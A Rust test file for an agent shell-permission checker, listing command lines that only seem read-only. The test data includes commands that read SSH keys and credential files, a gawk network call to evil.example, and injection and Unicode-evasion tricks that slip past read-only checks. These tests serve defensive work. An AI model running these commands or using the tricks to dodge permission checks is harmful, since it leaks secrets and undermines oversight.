//! Command lines that only seemed to read.

use bot_policy::shell::{Denylist, FolderTrust, ReadOnly, judge};

fn only_reads(line: &str) -> bool {
    judge(line, &Denylist::default(), FolderTrust::Trusted).read_only == ReadOnly::Proven
}

#[test]
fn an_option_behind_a_file_counts_as_one_before_it() {
    for line in [
        "sed -n p f -e '1e id'",
        "sed p f -i",
        "sed p f -f x.sed",
        "sed -n p f -e 'w out'",
        "sed p f --in-place",
    ] {
        assert!(!only_reads(line), "{line}");
    }
    for line in ["sed -n 1,5p notes.txt", "sed -n -- p f", "sed -n -e p f g"] {
        assert!(only_reads(line), "{line}");
    }
}

#[test]
fn a_bracket_that_hides_where_a_pattern_ends_is_no_proof() {
    for line in [
        "sed 's/[/]/#/w out' f",
        "sed -n '/[/]/w out' f",
        "sed 's/[[:alpha:]/]/#/w out' f",
        "sed 's/[]/]/#/w out' f",
        "sed 's/[^]/]/#/w out' f",
    ] {
        assert!(!only_reads(line), "{line}");
    }
    for line in ["sed -n '/[0-9]/p' f", "sed 's/[[:space:]]*$//' f"] {
        assert!(only_reads(line), "{line}");
    }
}

#[test]
fn names_that_some_shells_compute_prove_nothing() {
    for line in [
        "test -v 'a[$(touch x)]'",
        "[ -v name ]",
        "printf '-va[0]' %s 1",
        "printf -v name x",
        "ps auxe",
        "ps eww",
        "gawk '{print}' /inet/tcp/0/evil.example/80",
        "cat /home/me/.config/gh/hosts.yml",
        "cat /home/me/.cargo/credentials.toml",
        "cat /home/me/.bash_history",
        "grep -r . /run/credentials",
        "cat /home/me/.ssh/id_ecdsa",
    ] {
        assert!(!only_reads(line), "{line}");
    }
    for line in ["printf %s x", "test -f x", "ps aux", "ps -ef"] {
        assert!(only_reads(line), "{line}");
    }
}

#[test]
fn what_reads_by_a_side_door_is_no_proven_read() {
    for line in [
        "cat a|tee b",
        "cat $'\\x2fetc/passwd'",
        "cat {a,/home/me/b}",
        "cat a{,/../../b}",
        "cat \"$(echo a)\"",
        "cat <<EOF > b\nx\nEOF",
        "cat a >| b",
        "cat a <> b",
        "exec cat a",
        "command cat a",
        "/usr/bin/../bin/cat a",
        "PATH=. cat a",
        "cat a \\\nb | sh",
        "time -o x cat a",
        "find . -ok rm {} \\;",
        "find -files0-from a",
        "wc --files0-from=a",
        "du --files0-from=a",
        "file -f a",
        "file -m a b",
        "date -f a",
        "date --reference=a",
        "sort --compress-program=sh a",
        "sort -T x a",
        "sort --random-source=a -R b",
        "sort --files0-from=a",
        "shuf -o x a",
        "tree --fromfile a",
        "diff --to-file=/home/me/a b",
        "git log --output=x",
        "git log -Oorder",
        "git diff --no-index a b",
        "git show --textconv HEAD:a",
        "git --git-dir=/home/me/.git log",
        "git -c core.pager=id log",
        "git blame --contents /home/me/a b",
        "git config --list",
        "git config --get http.extraheader",
        "git reflog expire --all",
        "git branch --list -D main",
        "git tag -l -d v1",
        "go env -w X=1",
        "go version ./x",
        "node -v x.js",
        "python3 -V x.py",
        "cargo --version run",
        "npm ls --prefix /home/me",
        "pip list --path /home/me",
        "jq --slurpfile a /home/me/b . c",
        "jq --rawfile a b . c",
        "yq 'load(\"/home/me/a\")' b",
        "yq 'eval(\"lo\"+\"ad(\\\"/etc/x\\\")\")' b",
        "yq 'strenv(HOME)' b",
        "yq 'system(\"id\")' b",
        "jq -n '[inputs]' b",
        "jq '$ENV.HOME, env' b",
        "yq -i .a=1 b",
        "awk 'BEGIN{while((getline l<\"/home/me/a\")>0)print l}'",
        "awk -l readfile 'BEGIN{print readfile(\"a\")}'",
        "awk -i inplace 1 a",
        "awk '@include \"a\"' b",
        "awk 1 f=/home/me/a b",
        "sed -n '$!{h;d};r /home/me/a' b",
        "sed 's/x/y/we' a",
        "sed '1~2w out' a",
        "rg --pre=sh x",
        "rg --search-zip x",
        "rg --ignore-file=/home/me/a x",
        "rg -f a x",
        "hostname -F a",
        "realpath --relative-to=/home a",
        "whereis -B /x -f a",
        "ls\u{a0}-la",
        "c\u{430}t a",
        "cat \u{2010}n a",
        "cat a \u{200b}b",
    ] {
        assert!(!only_reads(line), "{line}");
    }
}

#[test]
fn where_an_agent_writes_only_git_proves_more_and_only_in_the_folder_itself() {
    let proven = |line: &str| {
        let judged = judge(line, &Denylist::default(), FolderTrust::Shared);
        judged.read_only == ReadOnly::Proven
    };
    for line in [
        "git -C notes status",
        "git -C . status",
        "git --git-dir=notes status",
        "git --git-dir notes status",
        "git --work-tree=notes status",
        "git -c core.fsmonitor=id status",
        "git --exec-path=notes status",
        "git --config-env=core.fsmonitor=X status",
        "git --namespace x status",
        "cd notes && git status",
        "GIT_DIR=notes git status",
        "env -C notes git status",
        "env GIT_DIR=notes git status",
        "cargo --version",
        "cargo version",
        "rustc --version",
        "go version",
        "go env",
        "node --version",
        "npm ls",
        "npm -v",
        "python3 --version",
        "pip list",
        "java -version",
    ] {
        assert!(!proven(line), "{line}");
    }
    for line in ["git status", "git --no-pager log -p", "cat a | sort"] {
        assert!(proven(line), "{line}");
    }
}
